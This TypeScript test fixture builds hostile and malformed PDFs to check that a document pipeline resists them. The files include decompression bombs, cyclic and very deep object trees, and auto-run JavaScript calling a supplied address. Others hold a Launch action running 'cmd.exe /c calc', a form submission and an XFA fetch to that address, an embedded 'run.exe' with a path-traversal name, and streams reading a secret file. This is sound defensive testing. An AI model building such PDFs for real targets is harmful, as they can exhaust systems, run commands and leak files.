import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { makePdf } from "../samples/metadata.ts";
import { pdfOf, pdfOfObjectStream, pdfStream } from "../samples/pdf-bytes.ts";
import { videoFolder } from "../samples/videos.ts";
import type { BadInput } from "./bad-input.ts";
import { zlibBomb } from "./deflate-bomb.ts";

/** PDFs that are damaged, locked, or made to harm. */

const flate = "/Filter /FlateDecode";
const tree = "<< /Type /Catalog /Pages 2 0 R >>";
const onePage = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const page = (more = "") => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] ${more} >>`;

/** A PDF of one page; `more` is added to the catalogue, the page and the objects. */
const simple = (more: { catalog?: string; page?: string; objects?: (string | Buffer)[] } = {}) =>
  pdfOf({
    objects: [
      `<< /Type /Catalog /Pages 2 0 R ${more.catalog ?? ""} >>`,
      onePage,
      page(more.page),
      ...(more.objects ?? []),
    ],
  });

function encrypted(user: string): string {
  const [from, to] = [join(videoFolder(), "open.pdf"), join(videoFolder(), `locked-${user}.pdf`)];
  writeFileSync(from, makePdf());
  execFileSync("qpdf", ["--encrypt", user, "owner", "256", "--", from, to]);
  return to;
}

/** A PDF whose pages are those objects, by their numbers. */
function pages(numbers: readonly number[]): Buffer {
  const kids = numbers.map((number) => `${number} 0 R`).join(" ");
  const node = `<< /Type /Pages /Count ${numbers.length} /Kids [${kids}] >>`;
  const own = new Set(numbers);
  return pdfOf({ objects: [tree, node, ...Array.from(own, () => page())] });
}

/** Zeros, packed `times` over: each unpacking is a thousand times what it was. */
function nested(times: number): Buffer {
  let data: Buffer = zlibBomb(16);
  for (let level = 1; level < times; level++) data = deflateSync(data);
  return data;
}

type Build = BadInput["build"];
const row =
  (...answers: BadInput["answers"]) =>
  (id: string, build: Build, more: Partial<BadInput> = {}): BadInput => ({
    ...{ id, type: "pdf", build, answers },
    ...more,
  });

const fine = row("completes");
const corrupt = row("corrupt");
const unbearable = row("out_of_memory", "corrupt", "timed_out");
/** Which of them depends on how far a reader goes; none may do harm. */
const either = row("completes", "corrupt", "too_complex");
const modest = { mostBytes: 3 * 2 ** 30 };

export const badPdfs: readonly BadInput[] = [
  corrupt("garbage behind its first line", () => Buffer.from("%PDF-1.7\ngarbage")),
  corrupt("its first line alone", () => Buffer.from("%PDF-1.7\n")),
  either("a PDF that breaks off", () => makePdf().subarray(0, 700)),
  fine("a PDF with something before and behind it", () =>
    Buffer.concat([Buffer.from("<html>\n"), makePdf("and more")]),
  ),
  fine("a PDF without its table", () => {
    const text = makePdf().toString("latin1");
    const [table, trailer] = [text.indexOf("xref\n0"), text.indexOf("trailer")];
    return Buffer.from(text.slice(0, table) + text.slice(trailer), "latin1");
  }),
  row("encrypted")("a user's password", () => encrypted("user"), {
    except: { "pipeline/strip-metadata": ["encrypted"] },
  }),
  fine("an owner's password", () => encrypted("")),
  unbearable(
    "an object stream that unpacks to 1 GB",
    () => pdfOfObjectStream(flate, (content) => zlibBomb(1024, content)),
    modest,
  ),
  either(
    "an object stream packed ten times over",
    () => pdfOfObjectStream(`/Filter [${"/FlateDecode ".repeat(10)}]`, () => nested(10)),
    modest,
  ),
  either(
    "a page that unpacks to 64 MB",
    () => simple({ page: "/Contents 4 0 R", objects: [pdfStream(flate, zlibBomb(64))] }),
    modest,
  ),
  either(
    "a page packed twenty times over",
    () => {
      const filter = `/Filter [${"/FlateDecode ".repeat(20)}]`;
      return simple({ page: "/Contents 4 0 R", objects: [pdfStream(filter, nested(20))] });
    },
    modest,
  ),
  either("pages that hold themselves", () =>
    pdfOf({ objects: [tree, "<< /Type /Pages /Kids [2 0 R 2 0 R 1 0 R] /Count 3 >>"] }),
  ),
  either("a page that is its own parent", () =>
    pdfOf({ objects: [tree, onePage, "<< /Type /Page /Parent 3 0 R >>"] }),
  ),
  either("objects that refer to themselves", () =>
    simple({
      catalog: "/Metadata 4 0 R /Outlines 5 0 R /Names 6 0 R",
      page: "/Contents 7 0 R /Annots 8 0 R",
      objects: [
        "4 0 R",
        "<< /First 5 0 R /Last 5 0 R /Next 5 0 R /Parent 5 0 R >>",
        "<< /Kids [6 0 R] /EmbeddedFiles 6 0 R >>",
        "<< /Length 7 0 R /Filter 7 0 R >>\nstream\nx\nendstream",
        "[8 0 R [8 0 R 8 0 R]]",
      ],
    }),
  ),
  either("a table that comes before itself", () =>
    pdfOf({ objects: [tree, onePage, page()], trailer: "/Prev 0 /XRefStm 9" }),
  ),
  either("a million brackets", () => simple({ page: `/X ${"[".repeat(1_000_000)}` })),
  either("a million dictionaries", () => simple({ page: `/X ${"<</A".repeat(1_000_000)}` })),
  either("pages 5,000 deep", () => {
    const depth = 5000;
    const nodes = Array.from(
      { length: depth },
      (_, index) => `<< /Type /Pages /Kids [${index + 3} 0 R] /Count 1 /Parent ${index + 1} 0 R >>`,
    );
    return pdfOf({ objects: [tree, ...nodes, page()] });
  }),
  either("a table of 2³¹ objects by its word", () =>
    pdfOf({ objects: [tree, onePage, page()], size: 2 ** 31 - 1 }),
  ),
  either("an object of number 2³¹", () =>
    simple({ page: "/Contents 2147483647 0 R /X 99999999999999999999 0 R" }),
  ),
  either("one page 100,000 times", () => pages(Array.from({ length: 100_000 }, () => 3)), modest),
  fine("100,000 pages", () => pages(Array.from({ length: 100_000 }, (_, index) => index + 3)), {
    ...modest,
    isSlow: true,
  }),
  fine("a page of 14,400²", () => simple({ page: "/MediaBox [0 0 14400 14400]" })),
  either("a page of no size", () => simple({ page: "/MediaBox [1e38 -1e38 (a) null]" })),
  fine("scripts, programs, forms and files", ({ address, secret }) =>
    simple({
      catalog:
        "/OpenAction 4 0 R /AA << /WC 4 0 R >> /Names << /JavaScript << /Names [(a) 4 0 R] >> /EmbeddedFiles << /Names [(b) 8 0 R] >> >> /AcroForm << /XFA 7 0 R >>",
      page: "/AA << /O 5 0 R >> /Annots [6 0 R]",
      objects: [
        `<< /S /JavaScript /JS (app.launchURL\\("${address}"\\)) /Next 5 0 R >>`,
        `<< /S /Launch /F (${secret}) /Win << /F (cmd.exe) /P (/c calc) >> >>`,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F << /FS /URL /F (${address}/form) >> >> >>`,
        pdfStream("", `<x:xdp xmlns:x="a"><template href="${address}/xfa"/></x:xdp>`),
        "<< /Type /Filespec /F (../../run.exe) /EF << /F 9 0 R >> >>",
        pdfStream("/Type /EmbeddedFile", "MZ"),
      ],
    }),
  ),
  either("streams that lie in other files", ({ address, secret }) =>
    simple({
      catalog: "/Metadata 5 0 R",
      page: "/Contents 4 0 R",
      objects: [
        pdfStream(`/F (${secret})`, ""),
        pdfStream(`/Type /Metadata /F << /FS /URL /F (${address}/a) >>`, ""),
      ],
    }),
  ),
];
